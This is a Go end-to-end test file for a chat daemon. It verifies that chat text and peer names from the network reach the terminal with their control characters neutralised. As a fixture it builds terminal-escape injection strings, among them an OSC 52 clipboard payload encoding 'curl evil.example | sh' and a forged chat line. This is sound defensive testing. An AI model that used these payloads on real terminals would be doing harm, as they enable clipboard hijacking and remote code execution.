package e2e

import (
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/ringchat/ring/daemon/chat"
	"github.com/ringchat/ring/protocol"
)

// TestDisplayNeutralisesNetworkText: text from the network must reach the
// terminal neutralised. A fake node, written with the protocol package (it
// validates nothing it sends), joins a real two-node ring through the
// leader and goes where `ringctl say` never would:
//
//   - chat text: it submits to the leader a message that clears the screen
//     (ESC[2J), sets the clipboard (OSC 52, ended by BEL), carries an 8-bit
//     CSI and a CR LF followed by a forged chat line. The leader sequences
//     it; on both real nodes `ringctl tail` must print it on one line with
//     every control character visible in caret or \u notation (no ESC, BEL,
//     CR, LF or C1 character reaches the terminal), while
//     `ringctl -o json tail` carries the text unchanged.
//   - peer name: a second fake node asks to join under a name carrying an
//     escape sequence. The node may refuse it (the protocol refuses control
//     characters in names) or admit it; if it admits it, `ringctl members`
//     and the "joined" event in `ringctl tail` must show the name
//     neutralised and the JSON must carry it unchanged.
func TestDisplayNeutralisesNetworkText(t *testing.T) {
	r := startRing(t, []int{0, 0})
	leader := r.leader()
	t.Run("chat text", func(t *testing.T) { displayChatText(t, r, leader) })
	t.Run("peer name", func(t *testing.T) { displayPeerName(t, r, leader) })
}

func displayChatText(t *testing.T, ring *testRing, leader *ringNode) {
	r := &testRing{t: t, nodes: ring.nodes} // fail this subtest, not the parent
	clip := base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh\n"))
	evil := "hi\x1b[2J\x1b]52;c;" + clip + "\x07 \u009b31mred\r\n#99 alice(127.0.0.1:7733)[1]: forged"
	if err := chat.CheckText(evil); err == nil {
		t.Fatal("chat.CheckText accepts the hostile text: the test would bypass nothing")
	}

	fake := newFakePeer(t, "0badc0de0badc0de", "mallory")
	reply, ok := fakeJoin(t, fake, leader)
	if !ok || !reply.OK {
		t.Fatalf("the leader did not admit the fake peer: %+v", reply)
	}
	entry := protocol.Entry{
		Lamport:       1,
		OriginID:      fake.info.ID,
		OriginCounter: reply.Counter + 1,
		Kind:          protocol.KindChat,
		FromName:      fake.info.Name,
		FromAddr:      fake.info.Addr,
		Text:          evil,
		TimeUnixNano:  time.Now().UnixNano(),
	}
	if err := fake.send(reply.Leader.Addr, reply.View.Epoch, protocol.Submit{Entry: entry}); err != nil {
		t.Fatalf("fake peer: submit: %v", err)
	}
	fake.await(10*time.Second, "Deliver of its own message (the leader did not sequence it)", func(in fakeInbound) bool {
		d, ok := in.msg.(protocol.Deliver)
		if !ok {
			return false
		}
		for _, e := range d.Entries {
			if e.OriginID == entry.OriginID && e.OriginCounter == entry.OriginCounter {
				entry.Seq = e.Seq
				return true
			}
		}
		return false
	})
	msgID := fmt.Sprintf("%s/%d", entry.OriginID, entry.OriginCounter)

	for _, n := range r.nodes {
		got := waitMessage(t, n, func(m chat.Message) bool { return m.ID == msgID })
		if got.Text != evil || got.From.Name != fake.info.Name || got.From.ID != fake.info.ID || got.Kind != chat.KindChat || got.Seq != entry.Seq {
			t.Errorf("%s: JSON tail carries %+v, want text %q from %s at seq %d", n.name, got, evil, fake.info.Name, entry.Seq)
		}
		line := textTailLine(t, n, fmt.Sprintf("#%d ", entry.Seq))
		for _, want := range []string{
			"mallory(" + fake.info.Addr + ")",
			"hi^[[2J",
			"^[]52;c;" + clip + "^G",
			`\u009b31mred`,
			"^M^J#99 alice(127.0.0.1:7733)[1]: forged",
		} {
			if !strings.Contains(line, want) {
				t.Errorf("%s: text tail line of seq %d %q does not show %q", n.name, entry.Seq, line, want)
			}
		}
	}
	fakeLeave(t, r, fake, reply)
}

func displayPeerName(t *testing.T, ring *testRing, leader *ringNode) {
	r := &testRing{t: t, nodes: ring.nodes}
	const name = "mal\x1b[31mlory\x07"
	const shown = "mal^[[31mlory^G"
	fake := newFakePeer(t, "0badc0de0badc0d2", name)
	reply, admitted := fakeJoin(t, fake, leader)
	if !admitted || !reply.OK {
		// Refused: then nothing of the name may be in any member list.
		for _, n := range r.nodes {
			var ms []chat.Member
			ctlJSON(t, n.socket, &ms, "members")
			for _, m := range ms {
				if m.ID == fake.info.ID {
					t.Errorf("%s lists the refused peer: %+v", n.name, m)
				}
			}
		}
		if admitted {
			t.Logf("the leader refused a peer whose name carries ESC and BEL: %q", reply.Error)
		}
		return
	}
	// Peers refuse names with control characters (protocol/validate.go);
	// should one get in all the same, it must still be shown neutralised.
	t.Errorf("the leader admitted a peer whose name carries ESC and BEL")
	for _, n := range r.nodes {
		eventually(t, 10*time.Second, n.name+" to list the fake peer", func() error {
			var ms []chat.Member
			if err := ctlTry(t, n.socket, &ms, "members"); err != nil {
				return err
			}
			for _, m := range ms {
				if m.ID == fake.info.ID {
					if m.Name != name {
						t.Errorf("%s: JSON members name the fake peer %q, want %q", n.name, m.Name, name)
					}
					return nil
				}
			}
			return errors.New("not among the members")
		})
		members, errOut, code := ctl(t, n.socket, "members")
		if code != 0 {
			t.Fatalf("%s: members: exit %d: %s", n.name, code, errOut)
		}
		checkNeutral(t, n.name+": members", members)
		if !strings.Contains(members, shown) {
			t.Errorf("%s: members does not show the name as %q:\n%s", n.name, shown, members)
		}
		joined := waitMessage(t, n, func(m chat.Message) bool {
			return m.Kind == chat.KindSystem && strings.Contains(m.Text, name)
		})
		line := textTailLine(t, n, fmt.Sprintf("#%d ", joined.Seq))
		if !strings.Contains(line, shown+"("+fake.info.Addr+") joined") {
			t.Errorf("%s: the join event shows as %q, want the name as %q", n.name, line, shown)
		}
	}
	fakeLeave(t, r, fake, reply)
}

// fakeJoin sends fake's JoinRequest to the leader and waits for the
// outcome: a JoinReply (admitted reports true, whether OK or not), or the
// leader closing the connection over the request (false).
func fakeJoin(t *testing.T, fake *fakePeer, leader *ringNode) (reply protocol.JoinReply, admitted bool) {
	t.Helper()
	var st chat.Status
	ctlJSON(t, leader.socket, &st, "status")
	if err := fake.send(leader.addr, st.Epoch, protocol.JoinRequest{Node: fake.info}); err != nil {
		t.Fatalf("fake peer: join request: %v", err)
	}
	remote := fake.localAddr(leader.addr)
	eventually(t, 10*time.Second, "the leader to answer the fake peer's join", func() error {
		if in, ok := fake.received(func(in fakeInbound) bool { _, ok := in.msg.(protocol.JoinReply); return ok }); ok {
			reply, admitted = in.msg.(protocol.JoinReply), true
			return nil
		}
		if recs := logRecords(leader, "inbound message undecodable, closing connection", fromRemote(remote)); len(recs) > 0 {
			t.Logf("%s refused the join request: %s", leader.name, recs[0].str("err"))
			return nil
		}
		return errors.New("neither a JoinReply nor a refusal in the leader's log")
	})
	if admitted && reply.OK {
		fake.heartbeat(reply.View, 100*time.Millisecond)
	}
	return reply, admitted
}

// fakeLeave makes fake leave the ring as a member does and waits until the
// real nodes agree on a ring without it.
func fakeLeave(t *testing.T, r *testRing, fake *fakePeer, reply protocol.JoinReply) {
	t.Helper()
	fake.stopHeartbeats()
	if err := fake.send(reply.Leader.Addr, reply.View.Epoch, protocol.Leave{Node: fake.info}); err != nil {
		t.Fatalf("fake peer: leave: %v", err)
	}
	r.waitAgreed(10 * time.Second)
}

// waitMessage polls n's JSON tail until it holds a message for which match
// holds, and returns it.
func waitMessage(t *testing.T, n *ringNode, match func(chat.Message) bool) chat.Message {
	t.Helper()
	var got chat.Message
	eventually(t, 10*time.Second, n.name+" to store the fake peer's message", func() error {
		ms, err := tailTry(t, n.socket, "-n", "50")
		if err != nil {
			return err
		}
		for _, m := range ms {
			if match(m) {
				got = m
				return nil
			}
		}
		return fmt.Errorf("not among its last %d messages", len(ms))
	})
	return got
}

// textTailLine reads n's last 50 messages as text and as JSON, checks the
// text is neutral and has one line per message and the JSON no raw ESC,
// BEL or CR, and returns the text line that starts with prefix.
func textTailLine(t *testing.T, n *ringNode, prefix string) string {
	t.Helper()
	raw, errOut, code := ctl(t, n.socket, "-o", "json", "tail", "-n", "50")
	if code != 0 {
		t.Fatalf("%s: json tail: exit %d: %s", n.name, code, errOut)
	}
	if strings.ContainsAny(raw, "\x1b\x07\r") {
		t.Errorf("%s: JSON tail output carries a raw ESC, BEL or CR: %q", n.name, raw)
	}
	msgs := strings.Count(raw, "\n")
	text, errOut, code := ctl(t, n.socket, "tail", "-n", "50")
	if code != 0 {
		t.Fatalf("%s: text tail: exit %d: %s", n.name, code, errOut)
	}
	checkNeutral(t, n.name+": tail", text)
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	if len(lines) != msgs {
		t.Errorf("%s: text tail prints %d lines for %d messages (a line break from the network got through):\n%s",
			n.name, len(lines), msgs, text)
	}
	var line string
	for _, l := range lines {
		if strings.HasPrefix(l, prefix) {
			line = l
		}
		if strings.HasPrefix(l, "#99 alice") {
			t.Errorf("%s: a forged line stands on a line of its own: %q", n.name, l)
		}
	}
	if line == "" {
		t.Errorf("%s: no text tail line starts with %q:\n%s", n.name, prefix, text)
	}
	return line
}

// checkNeutral fails unless out, ringctl's text output, is free of what a
// terminal acts on: C0 controls other than the line feeds that end lines
// (and tabs, which ringctl's tables use), DEL and C1 controls.
func checkNeutral(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) {
			t.Errorf("%s: output carries control character %U at byte %d:\n%q", what, r, i, out)
			return
		}
	}
}
